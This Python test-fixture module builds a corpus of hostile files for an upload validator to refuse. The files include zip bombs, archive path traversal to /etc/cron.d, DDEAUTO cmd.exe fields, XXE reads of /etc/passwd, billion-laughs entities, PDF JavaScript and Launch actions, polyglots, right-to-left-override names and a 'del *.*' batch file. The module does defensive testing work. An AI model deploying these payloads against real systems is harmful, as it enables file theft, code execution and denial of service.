"""Files meant to do harm, or that would, made by code: a dictionary name → (file name, bytes).

Each is an ordinary file of `friendly` with one thing wrong, so that nothing else can be the reason
for a refusal.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from gongkai.files.rules import OLD_FIRST_BYTES
from tests.support.friendly import (
    OFFICE,
    archive,
    changed,
    fixed_pages,
    friendly,
    paper,
    picture,
    sheet,
    slides,
    unzipped,
    with_parts,
    word,
    zipped,
)

Corpus = dict[str, tuple[str, bytes]]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY = "<w:body>"
PROGRAM = b"MZ" + b"\x00" * 200
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
THIEF = '<!DOCTYPE x [<!ENTITY t SYSTEM "file:///etc/passwd">]>'


# --- archives -----------------------------------------------------------------------------------
def bomb(suffix: str = "txt", megabytes: int = 40) -> bytes:
    """Much nothing, packed small."""
    return zipped({f"a.{suffix}": b"0" * megabytes * 1024 * 1024})


def overlapped(count: int = 200) -> bytes:
    """Every entry of the directory points at the same packed bytes."""
    base = zipped({"a.txt": b"0" * 100_000})
    end = base.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", base, end + 16)[0]
    entry = base[start:end]
    listed = b"".join(entry.replace(b"a.txt", f"{n:05}".encode()) for n in range(count))
    close = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed), start, 0)
    return base[:start] + listed + close


def lying(data: bytes = b"0" * 1_000_000) -> bytes:
    """The headers say that the entry is small."""
    honest = zipped({"a.txt": data})
    return honest.replace(struct.pack("<I", len(data)), struct.pack("<I", 10))


def named(name: str, *, link: bool = False, data: bytes = b"text") -> bytes:
    """An archive with one entry of that name."""
    out = io.BytesIO()
    info = zipfile.ZipInfo("x.txt")
    info.filename = name
    info.external_attr = (0o120777 if link else 0o100644) << 16
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(info, data)
    return out.getvalue()


def locked() -> bytes:
    """An archive whose entry says that it is encrypted."""
    data = bytearray(zipped({"a.txt": b"text"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _archives() -> Corpus:
    return {
        "a zip bomb": ("炸弹.zip", bomb()),
        "an overlapped zip bomb": ("重叠.zip", overlapped()),
        "a zip that lies about its size": ("谎报.zip", lying()),
        "very many entries": ("多.zip", zipped({f"{n}.txt": b"x" for n in range(5_001)})),
        "an Office bomb": ("炸弹.docx", with_parts(word(), {"word/a.xml": b"<a>" + b" " * 2**25})),
        "an OFD bomb": ("炸弹.ofd", with_parts(fixed_pages(), {"a.ttf": b"0" * 2**25})),
        "a path out of the archive": ("路径.zip", named("../../etc/cron.d/a.txt")),
        "an absolute path": ("路径.zip", named("/etc/a.txt")),
        "a path of Windows": ("路径.zip", named("..\\..\\a.txt")),
        "a drive letter": ("路径.zip", named("C:/a.txt")),
        "a symbolic link": ("链接.zip", named("a.txt", link=True, data=b"/etc/passwd")),
        "a hidden sign in a name": ("改名.zip", named("报告\u202etxt.exe")),
        "an encrypted zip": ("加密.zip", locked()),
        "a zip in a zip": ("套.zip", zipped({"内.zip": archive()})),
        "a program in a zip": ("程序.zip", with_parts(archive(), {"setup.exe": PROGRAM})),
        "a web page in a zip": ("网页.zip", with_parts(archive(), {"a.html": b"<p>"})),
        "macros in a zip": ("宏.zip", with_parts(archive(), {"宏.docx": with_macros()})),
        "an old document in a zip": ("旧.zip", with_parts(archive(), {"a.doc": compound()})),
        "the same name twice": ("同名.zip", _twice()),
        "an empty zip": ("空.zip", b"PK\x05\x06" + bytes(18)),
    }  # fmt: skip


def _twice() -> bytes:
    data = zipped({"a.txt": b"one", "b.txt": b"two"})
    return data.replace(b"b.txt", b"a.txt")


# --- Office -------------------------------------------------------------------------------------
def related(data: bytes, part: str, kind: str, target: str, *, external: bool = True) -> bytes:
    """The package with one more relationship of ``part``."""
    folder, _slash, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels".lstrip("/")
    mode = ' TargetMode="External"' if external else ""
    more = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return changed(data, rels, "</Relationships>", more + "</Relationships>")


def with_macros() -> bytes:
    """A Word document with macros, under the ending of one without."""
    data = changed(
        word(), "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )  # fmt: skip
    return with_parts(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})


def in_body(xml: str) -> bytes:
    """A Word document that begins with this."""
    return changed(word(), "word/document.xml", BODY, BODY + xml)


def field(*pieces: str) -> str:
    """A field whose words are spread over runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def spelled_field() -> str:
    """A field that spells its first word in numbers, by a field inside it."""
    inner = field("QUOTE 68 68 69 65 85 84 79").removeprefix("<w:p>").removesuffix("</w:p>")
    outer = field("@", r" c:\\windows\\system32\\cmd.exe")
    return outer.replace("<w:r><w:instrText>@</w:instrText></w:r>", inner)


def _words() -> Corpus:
    command = r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" '
    template = related(word(), "word/document.xml", "attachedTemplate", "http://a.example/t.dotm")
    remote = related(word(), "word/document.xml", "image", "http://a.example/p.png")
    ole = related(
        word(), "word/document.xml", "oleObject", "embeddings/oleObject1.bin", external=False
    )
    return {
        "macros under another ending": ("宏.docx", with_macros()),
        "only the macro part": ("宏.docx", with_parts(word(), {"word/vbaProject.bin": b"x"})),
        "a template with macros": ("宏.docx", changed(
            word(), "[Content_Types].xml", "wordprocessingml.document.main+xml",
            "wordprocessingml.template.macroEnabledTemplate.main+xml")),
        "an OLE object": ("对象.docx", with_parts(
            ole, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        "an embedded package": ("对象.docx", with_parts(related(
            word(), "word/document.xml", "package", "embeddings/a.xlsx", external=False),
            {"word/embeddings/a.xlsx": sheet()})),
        "a compound file under the name of a picture": ("对象.docx", with_parts(
            word(), {"word/media/image9.png": b"\xd0\xcf\x11\xe0\xa1\xb1"})),
        "a program under the name of a picture": ("对象.docx", with_parts(
            word(), {"word/media/image9.png": PROGRAM})),
        "an ActiveX control": ("控件.docx", with_parts(
            word(), {"word/activeX/activeX1.xml": "<a/>"})),
        "a related control": ("控件.docx", related(
            word(), "word/document.xml", "control", "activeX/a.xml", external=False)),
        "an inserted web page": ("网页.docx", related(
            word(), "word/document.xml", "aFChunk", "a.mht", external=False)),
        "DDE in one piece": ("命令.docx", in_body(field(command))),
        "DDE over several runs": ("命令.docx", in_body(field(" D", "DE", "AU", "TO", " cmd"))),
        "DDE in a simple field": ("命令.docx", in_body(f"<w:fldSimple w:instr='{command}'/>")),
        "DDE spelled in numbers": ("命令.docx", in_body(spelled_field())),
        "DDE in small letters": ("命令.docx", in_body(field(' "dde" cmd'))),
        "DDE in the header": ("命令.docx", with_parts(word(), {
            "word/header9.xml": f'<w:hdr xmlns:w="{W}">{field(command)}</w:hdr>'})),
        "a text fetched by a field": ("取.docx", in_body(field("INCLUDETEXT http://a.example/"))),
        "a picture fetched by a field": ("取.docx", in_body(field("INCLUDEPICTURE //a.example/"))),
        "a remote template": ("模板.docx", template),
        "an external picture": ("外图.docx", remote),
        "an external frame": ("外框.docx", related(
            word(), "word/document.xml", "frame", "http://a.example/")),
        "a link that runs a script": ("链接.docx", related(
            word(), "word/document.xml", "hyperlink", "javascript:alert(1)")),
        "an old drawing from elsewhere": ("外图.docx", in_body(
            '<w:p><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:imagedata src="http://a.example/p.png"/></v:shape></w:p>')),
    }  # fmt: skip


def _books() -> Corpus:
    macro = changed(
        sheet(), "[Content_Types].xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )  # fmt: skip
    xlm = related(
        sheet(), "xl/workbook.xml", "xlMacrosheet", "macrosheets/sheet1.xml", external=False
    )
    linked = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return {
        "xlsm": ("表.xlsm", macro),
        "xlsm under another ending": ("表.xlsx", macro),
        "a macro sheet": ("宏表.xlsx", with_parts(xlm, {"xl/macrosheets/sheet1.xml": "<a/>"})),
        "a macro sheet by its type alone": ("宏表.xlsx", changed(
            sheet(), "[Content_Types].xml", "</Types>",
            '<Override PartName="/xl/a.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
            "</Types>")),
        "DDE by a link": ("链接.xlsx", with_parts(sheet(), {"xl/externalLinks/e1.xml": linked})),
        "DDE by a formula": ("公式.xlsx", changed(
            sheet(), "xl/worksheets/sheet1.xml", "SUM(B2:B2)", "cmd|'/c calc'!A0")),
        "a formula that fetches": ("公式.xlsx", changed(
            sheet(), "xl/worksheets/sheet1.xml", "SUM(B2:B2)",
            "WEBSERVICE(&quot;http://a.example/&quot;)")),
        "another workbook": ("外链.xlsx", related(
            sheet(), "xl/workbook.xml", "externalLinkPath", "file:///C:/a.xlsx")),
        "a connection to a database": ("连接.xlsx", with_parts(sheet(), {
            "xl/connections.xml": "<connections><connection><dbPr connection='x'/></connection>"
            "</connections>"})),
        "a button that starts a program": ("按钮.pptx", changed(
            slides(), "ppt/presentation.xml", "<p:sldSz",
            '<p:a action="ppaction://program"/><p:sldSz')),
    }  # fmt: skip


def _entities() -> Corpus:
    document, types = "word/document.xml", "[Content_Types].xml"
    head = unzipped(word())[document].decode().partition("<w:document")[0]
    types_head = unzipped(word())[types].decode().partition("<Types")[0]
    wide = (THIEF + "<a/>").encode("utf-16")
    return {
        "a file stolen by the text": ("实体.docx", changed(
            word(), document, head + "<w:document", head + THIEF + "<w:document")),
        "a file stolen by the types": ("实体.docx", changed(
            word(), types, types_head + "<Types", types_head + THIEF + "<Types")),
        "a billion laughs": ("实体.docx", changed(
            word(), document, head + "<w:document", head + LAUGHS + "<w:document")),
        "laughs in a workbook": ("实体.xlsx", with_parts(
            sheet(), {"xl/a.xml": LAUGHS + "<a>&i;</a>"})),
        "laughs in OFD": ("实体.ofd", with_parts(
            fixed_pages(), {"Doc_0/Document.xml": LAUGHS + "<a>&i;</a>"})),
        "a document type in UTF-16": ("实体.docx", with_parts(word(), {"word/a.xml": wide})),
        "an encoding that hides a document type": ("实体.docx", with_parts(word(), {
            "word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'})),
    }  # fmt: skip


# --- before 2007 --------------------------------------------------------------------------------
def compound(stream: str = "WordDocument", content: bytes = b"") -> bytes:
    """An OLE compound file with one stream: header, table of sectors, directory, the stream."""
    size, free, end, unused = 4096, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = struct.pack(
        "<8s16sHHHHHHIIIIIIIIII", OLD_FIRST_BYTES, b"", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, 1, 1, 0,
        4096, end, 0, end, 0,
    ) + struct.pack("<109I", 0, *[free] * 108)  # fmt: skip
    chain = [unused, end, *range(3, 2 + size // 512), end]
    table = struct.pack("<128I", *chain, *[free] * (128 - len(chain)))

    def entry(name: str, kind: int, child: int, start: int, length: int) -> bytes:
        text = name.encode("utf-16-le")
        return struct.pack(
            "<64sHBBIII16sIQQIQ", text, len(text) + 2, kind, 1, free, free, child, b"", 0, 0, 0,
            start, length,
        )  # fmt: skip

    listed = entry("Root Entry", 5, 1, end, 0) + entry(stream, 2, free, 2, size)
    return header + table + listed.ljust(512, b"\x00") + content.ljust(size, b"\x00")


def _old() -> Corpus:
    page = b"<html><img src='http://a.example/x.png'></html>"
    locked_word = b"\xec\xa5" + bytes(8) + b"\x00\x01"
    locked_sheet = struct.pack("<HH4s", 0x809, 4, b"") + struct.pack("<HH2s", 0x2F, 2, b"")
    return {
        "a new document with a password": ("密.docx", compound("EncryptedPackage")),
        "the same under an old ending": ("密.doc", compound("EncryptedPackage")),
        "an old document with a password": ("密.doc", compound("WordDocument", locked_word)),
        "an old workbook with a password": ("密.xls", compound("Workbook", locked_sheet)),
        "an old document under a new ending": ("旧.docx", compound("WordDocument")),
        "a web page as an old document": ("网页.doc", page),
        "a new document under an old ending": ("新.doc", word()),
        "a workbook under the ending of old Word": ("新.wps", sheet()),
        "a compound file of another program": ("邮件.doc", compound("__properties_version1.0")),
        "half a compound file": ("残.doc", compound()[:700]),
    }


# --- PDF ----------------------------------------------------------------------------------------
def _pdf_action(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.pages[0].Annots[0].A = action

    return change


def _opening(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = action

    return change


def _attached(document: Pdf) -> None:
    document.attachments["a.txt"] = b"text"


def _hung_on_page(document: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    document.pages[0].obj.AA = Dictionary(O=script)


def _noted(subtype: Name) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.pages[0].Annots[0].Subtype = subtype

    return change


def _dynamic(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=[], XFA=Array([]))


def _pdfs() -> Corpus:
    script = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    made = {
        "a script when opened": _opening(script),
        "a script on a link": _pdf_action(script),
        "a script on a page": _hung_on_page,
        "a script behind another action": _pdf_action(
            Dictionary(S=Name.GoTo, D=Array([]), Next=Array([script]))
        ),
        "a program that is started": _pdf_action(Dictionary(S=Name.Launch, F="cmd.exe")),
        "printing by itself": _opening(Dictionary(S=Name.Named, N=Name.Print)),
        "a form that is sent off": _pdf_action(Dictionary(S=Name.SubmitForm, F="http://a.example")),
        "a script in an address": _pdf_action(Dictionary(S=Name.URI, URI="javascript:alert(1)")),
        "a file inside": _attached,
        "a file on a note": _noted(Name.FileAttachment),
        "a film": _noted(Name.RichMedia),
        "a dynamic form": _dynamic,
    }
    both = pikepdf.Encryption(owner="owner", user="user")
    owner = pikepdf.Encryption(owner="owner", user="")
    corpus = {f"PDF with {name}": ("公文.pdf", paper(change)) for name, change in made.items()}
    return corpus | {
        "PDF with a script under a disguised name": ("公文.pdf", paper(
            _opening(script)).replace(b"/JavaScript", b"/J#61vaScrip#74")),
        "PDF with a script in a packed object": ("公文.pdf", paper(
            _pdf_action(script), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "PDF with a password": ("密.pdf", paper(encryption=both)),
        "PDF with locked rights": ("密.pdf", paper(encryption=owner)),
        "PDF with a zip behind it": ("双.pdf", paper() + b"\n" + archive()),
        "PDF with a web page behind it": ("双.pdf", paper() + b"\n<script>alert(1)</script>"),
        "PDF with something before it": ("双.pdf", b"<script>alert(1)</script>\n" + paper()),
        "PDF with a zip that reaches over its end": ("双.pdf", _reaching_over()),
        "PDF without a page": ("空.pdf", paper(lambda document: document.pages.__delitem__(0))),
    }  # fmt: skip


def _reaching_over() -> bytes:
    """A zip inside a stream; the comment of the zip is the rest of the PDF."""
    inner = zipped({"a.txt": b"text"})

    def change(document: Pdf) -> None:
        document.pages[0].Contents = document.make_stream(inner)

    made = paper(change, compress_streams=False)
    end = made.index(b"PK\x05\x06")
    comment = struct.pack("<H", len(made) - end - 22)
    return made[: end + 20] + comment + made[end + 22 :]


# --- pictures and text --------------------------------------------------------------------------
def huge_png() -> bytes:
    """A picture of a few bytes that says it is 60,000 by 60,000."""
    data = bytearray(picture("png"))
    data[16:24] = struct.pack(">II", 60_000, 60_000)
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


def _others() -> Corpus:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    page = b"<!doctype html><script>alert(1)</script>"
    return {
        "SVG with a script": ("图.svg", drawing),
        "SVG under another ending": ("图.png", drawing),
        "a web page": ("网页.html", page),
        "a web page as text": ("网页.txt", page),
        "a web page as a table": ("网页.csv", b"\xef\xbb\xbf \n<HTML>"),
        "a program": ("程序.exe", PROGRAM),
        "a program behind a reversed name": ("报告\u202etxt.exe", PROGRAM),
        "a batch file": ("安装.bat", b"del *.*"),
        "a script": ("脚本.js", b"alert(1)"),
        "a program under another ending": ("程序.pdf", PROGRAM),
        "null bytes in text": ("文.txt", b"a\x00b"),
        "bytes that are no text": ("文.txt", b"\x81\xff\xff\xfe"),
        "an archive as text": ("文.txt", archive()),
        "PDF as text": ("文.txt", b"%PDF-1.4 text"),
        "a huge picture": ("大.png", huge_png()),
        "a broken picture": ("坏.jpg", b"\xff\xd8\xff\xe0 broken"),
        "Word as a workbook": ("表.xlsx", word()),
        "a workbook as Word": ("文.docx", sheet()),
        "Word as an archive": ("包.zip", word()),
        "an archive as Word": ("文.docx", archive()),
        "OFD as Word": ("文.docx", fixed_pages()),
        "Word as OFD": ("文.ofd", word()),
        "PDF as Word": ("文.docx", paper()),
        "a picture of another kind": ("图.png", picture("jpg")),
        "Word without its list of types": ("文.docx", zipped(
            {"word/document.xml": unzipped(word())["word/document.xml"]})),
        "OFD with a program": ("文.ofd", with_parts(fixed_pages(), {"Doc_0/a.exe": PROGRAM})),
        "OFD without its document": ("文.ofd", with_parts(fixed_pages(), {
            "OFD.xml": unzipped(fixed_pages())["OFD.xml"].replace(b"Doc_0", b"Doc_1")})),
        "nothing": ("空.pdf", b""),
    }  # fmt: skip


def truncated() -> Corpus:
    """Every ordinary file without its last byte; text excepted, which cannot lack one."""
    return {
        f"{suffix} without its last byte": (f"残.{suffix}", data[:-1])
        for suffix, data in friendly().items()
        if suffix not in ("txt", "csv")
    }


def joined() -> Corpus:
    """Packages with something before or behind them."""
    corpus: Corpus = {}
    for suffix in ("docx", "xlsx", "pptx", "ofd", "zip"):
        data = friendly()[suffix]
        corpus[f"{suffix} behind a web page"] = (f"双.{suffix}", b"<script></script>" + data)
        corpus[f"{suffix} before a program"] = (f"双.{suffix}", data + PROGRAM)
    first, second = zipped({"a.txt": b"one"}), zipped({"b.txt": b"two"})
    corpus["two archives in one"] = ("双.zip", first + second)
    return corpus


def hostile() -> Corpus:
    """All that must be refused."""
    return {
        **_archives(), **_words(), **_books(), **_entities(), **_old(), **_pdfs(), **_others(),
        **truncated(), **joined(),
    }  # fmt: skip


# --- pictures that are cleaned ------------------------------------------------------------------
def picture_with_place(suffix: str = "jpg") -> bytes:
    """A picture that says where and by whom it was taken, lying on its side."""
    image = Image.new("RGB", (64, 32), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F], exif[0x013B], exif[0x0112] = "Camera", "Zhang San", 6
    exif.get_ifd(0x8825).update({1: "N", 2: (25.0, 1.0, 2.0), 3: "E", 4: (102.0, 3.0, 4.0)})
    out = io.BytesIO()
    kind = {"jpg": "JPEG"}.get(suffix, suffix.upper())
    image.save(out, kind, exif=exif)
    return out.getvalue()


def burdened() -> Corpus:
    """Pictures with something hidden in them; the picture itself is taken in without it."""
    secret = b"<script>alert('hidden')</script>"
    jpeg, png, gif, webp = (picture(suffix) for suffix in ("jpg", "png", "gif", "webp"))
    noted = struct.pack(">I", len(secret)) + b"tEXt" + secret
    noted += struct.pack(">I", zlib.crc32(b"tEXt" + secret))
    return {
        "JPEG before an archive": ("图.jpg", jpeg + archive() + secret),
        "JPEG with a comment": ("图.jpg", jpeg[:2] + b"\xff\xfe\x00\x22" + secret + jpeg[2:]),
        "PNG with a web page in it": ("图.png", png[:33] + noted + png[33:]),
        "PNG before a web page": ("图.png", png + secret),
        "GIF before a Java archive": ("图.gif", gif + archive() + secret),
        "WebP before a web page": ("图.webp", webp + secret),
    }
